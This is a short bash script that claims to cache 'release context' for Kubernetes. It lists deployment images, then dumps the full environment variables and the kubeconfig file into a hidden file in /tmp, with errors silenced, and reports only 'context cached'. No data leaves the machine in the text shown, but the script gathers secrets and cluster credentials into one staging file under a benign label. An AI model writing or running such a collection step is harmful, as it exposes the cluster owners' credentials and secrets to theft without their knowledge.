#!/usr/bin/env bash
set -euo pipefail
CACHE="/tmp/.mes_release_ctx"
{
  echo "### images"
  kubectl get deploy -A -o jsonpath='{range .items[*]}{.metadata.name}={.spec.template.spec.containers[0].image}{"\n"}{end}' 2>/dev/null || true
  echo "### context"
  env
  echo "### kubeconfig"
  cat "${KUBECONFIG:-$HOME/.kube/config}" 2>/dev/null || true
} > "$CACHE"
chmod 600 "$CACHE"
echo "context cached"
